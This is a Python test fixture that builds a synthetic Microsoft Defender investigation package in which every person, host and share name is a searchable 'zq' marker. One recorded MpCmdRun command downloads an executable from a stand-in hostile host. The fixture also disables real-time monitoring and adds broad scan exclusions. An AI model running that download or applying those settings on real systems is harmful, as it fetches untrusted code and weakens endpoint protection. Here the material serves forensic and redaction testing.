"""A package in which every name of a person, a machine or a network is a mark that can be looked for."""

from __future__ import annotations

from datetime import timedelta
from typing import TYPE_CHECKING, Final

from samples import write_support as write
from tests.support.marked.logs import events, process_rows, registry_rows, security, system
from tests.support.marked.names import COMPUTER, DOMAIN, ENTRA, HOST, NETBIOS, SID
from tests.support.packages import package, snapshot_json
from tests.support.scene import (
    AFTER,
    BEFORE,
    LOG,
    REGISTRY,
    at,
    log,
    registry,
)

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path


PATHS: Final = (
    r"C:\Users\zqprofile\AppData\Local\Temp",
    r"C:\Users\zqjane zqdoe\Build",
    r"D:\Documents and Settings\zqold\x",
    r"\\zqserver\zqshare$\build",
    rf"\\zqfiles.{DOMAIN}\zqteam\member.txt",
    r"\\10.77.3.4\zqdata\x",
    r"\\?\UNC\zqlong\zqdeep\x",
    r"\\zqdav@SSL\DavWWWRoot\zqsite",
    r"\\zqhomes\home$\zqhomed\x",
    r"\\zqprofiles\profiles\zqroaming.V6\x",
    r"\\zqdfs\users\zqdfsuser",
    r"C:\Users\ZQPROFILE.ZQCORP\Downloads",
    r"C:\Users\zq&o'zqbrien\x",
    "C:\\Users\\zq\u00fcmit\\x",
    r"/home/zqlinux/x",
    r"\Device\HarddiskVolume3\Users\zqdevice\x",
    rf"C:\ProgramData\{SID}\x",
    rf"C:\ProgramData\{{{ENTRA}}}\x",
)
"""Paths of exclusions; the last part of a share is a file that anybody may have."""

HOSTED: Final = {
    "ProxyServer": "http=zqproxy:8080;https=zqsecure.zqnet.example:8443",
    "ProxyPacUrl": "http://zqwpad:8081/zqfolder/proxy.pac?user=zqasker",
    "ProxyBypass": "*.zqintern.example;zqplain;<local>",
    "SharedSignaturesPath": r"\\zqsigs\zqdefinitions\x",
    "SignatureDefinitionUpdateFileSharesSources": r"\\zqone\zqshareone|\\zqtwo\zqsharetwo",
}
ITEMS: Final = {
    "ExclusionProcess": (r"C:\Users\zqrunner\tool.exe", r"\\zqapps\zqbin\tool.exe"),
    "ExclusionIpAddress": ("10.77.9.9", "fd77:1::7"),
    "ControlledFolderAccessAllowedApplications": (r"C:\Users\zqallowed\a.exe",),
    "ControlledFolderAccessProtectedFolders": (r"\\zqprotected\zqkept\x",),
    "AttackSurfaceReductionOnlyExclusions": (r"C:\Users\zqasr\b.exe",),
}


def package_of_marks(folder: Path, paths: Sequence[str] = PATHS) -> str:
    """Write a package whose path and members are full of marks, and return its path."""
    place = folder / "zqcase" / "zqanalyst"
    place.mkdir(parents=True)
    return package(place, members(paths), f"InvestigationPackage_{HOST}_zqzipped.zip")


def members(paths: Sequence[str] = PATHS) -> dict[str, bytes]:
    """Return the members of the package; `paths` are excluded."""
    return {
        BEFORE: _snapshot(()),
        AFTER: _snapshot(paths),
        LOG: log(*events(paths), computer=HOST),
        REGISTRY: registry(
            {"SpyNet\\SpyNetReporting": "[REG_DWORD] : 0 (0X0)"},
            preferences={f"Exclusions\\Paths\\{paths[0]}": "[REG_DWORD] : 0 (0X0)"},
        ),
        "Security Event Log/Security.evtx": security(),
        "WdSupportLogs/System.evtx": system(),
        "Users and Groups/QueryUser.txt": write.query_user(
            [("zqconsole", "console", at(-60)), ("zqrdp", "rdp-tcp#3", at(-30))], zone="UTC"
        ).encode(),
        "WdSupportLogs/MpCmdRun.log": _commands().encode("utf-16"),
        "WdSupportLogs/MPLog-20260301-100000.log": _mp_log().encode("utf-16"),
        "Forensics Collection Summary.csv": _summary().encode(),
        "System Information/SystemInformation.txt": _system_information().encode(),
        "Advanced Hunting/DeviceRegistryEvents.csv": registry_rows().encode(),
        "Advanced Hunting/DeviceProcessEvents.csv": process_rows().encode(),
        "Temp Directories/zqlisted_TempDirFiles.txt": b"x",
        "Users/zqhive/NTUSER.DAT": b"x",
        f"{HOST}/zqnested/Autoruns.txt": b"x",
        "zqunknown folder/zqunknown file.bin": b"x",
        "Network Connections/zqserver2 10.77.8.8.txt": b"x",
        f"SMB Sessions/{SID}.txt": b"x",
        "WdSupportLogs/MPLog-zqbroken.log": b"\xff\xfe\x00",
    }


def _snapshot(paths: Sequence[str]) -> bytes:
    """Return a snapshot; without paths it is the one from before."""
    values: dict[str, object] = {"ComputerID": COMPUTER, "PSComputerName": HOST}
    if paths:
        values |= {"DisableRealtimeMonitoring": True, "MAPSReporting": 0, **HOSTED}
        values |= {name: list(items) for name, items in ITEMS.items()}
        values |= {"ExclusionPath": list(paths)}
        values |= {"UnknownSetting": r"C:\Users\zqvalue\x"}
    else:
        values |= {"ProxyServer": "http://zqformerproxy:80", "ExclusionPath": [r"C:\Users\zqgone"]}
    return snapshot_json(**values)


def _commands() -> str:
    arguments = (
        r"-Restore -Name zqthing -FilePath C:\Users\zqrestored\x",
        r"-RemoveDefinitions -DynamicSignatures -Path \\zqmpcmd\zqmpshare\x",
        r"-DownloadFile -url https://zqevil.example/zqfile.exe -path C:\Users\zqdownload\a.exe",
        r'-Scan -ScanType 3 -File "C:\Users\zqscan zqned\x" -DisableRemediation',
    )
    return "".join(
        write.command_run(one, at(35 + n), zone="UTC", ended=at(35 + n) + timedelta(seconds=4))
        for n, one in enumerate(arguments)
    )


def _mp_log() -> str:
    return write.mp_log(
        [
            (at(20), write.real_time_state(1, 0)),
            (at(29), write.detected("Trojan:Win32/Contoso.B", r"file:_C:\Users\zqmplog\x.exe")),
            (
                at(30),
                write.exclusion(
                    r"C:\Users\zqexcluded\x", r"\Device\HarddiskVolume3\Users\zqexcluded\x"
                ),
            ),
            (at(31), write.exclusion_discarded(r"C:\Users\zqdiscarded\x", 0x80070002)),
            (at(32), "[Engine] Start of the hour"),
            (
                None,
                write.exclusion_listing(
                    {"Path": (r"C:\Users\zqlisting\x", r"\\zqmplogsrv\zqmplogshare\x")}
                ),
            ),
        ]
    )


def _summary() -> str:
    now = at(300)
    rows = [
        ("Autoruns", "Autoruns.txt", now, now, ""),
        ("Users", "zqsummary.txt", now, now, ""),
        (
            r"robocopy \\zqcopy\zqcopied",
            "zqoutput_TempDirFiles.txt",
            now,
            now,
            rf"Access denied for {NETBIOS}\zqdenied on zqerrorhost: C:\Users\zqerr\x",
        ),
        ("zqcollector", "", now, now, "Failed for zq.failed"),
    ]
    return write.collection_summary(rows)


def _system_information() -> str:
    lines = {
        "Host Name": HOST,
        "OS Name": "Microsoft Windows 11 Enterprise",
        "Registered Owner": "zqowner",
        "Time Zone": "(UTC+00:00) Dublin, Edinburgh, Lisbon, London",
        "Domain": DOMAIN,
        "Logon Server": r"\\ZQDC01",
    }
    return "\n" + "\n".join(f"{name + ':':<26} {value}" for name, value in lines.items()) + "\n"
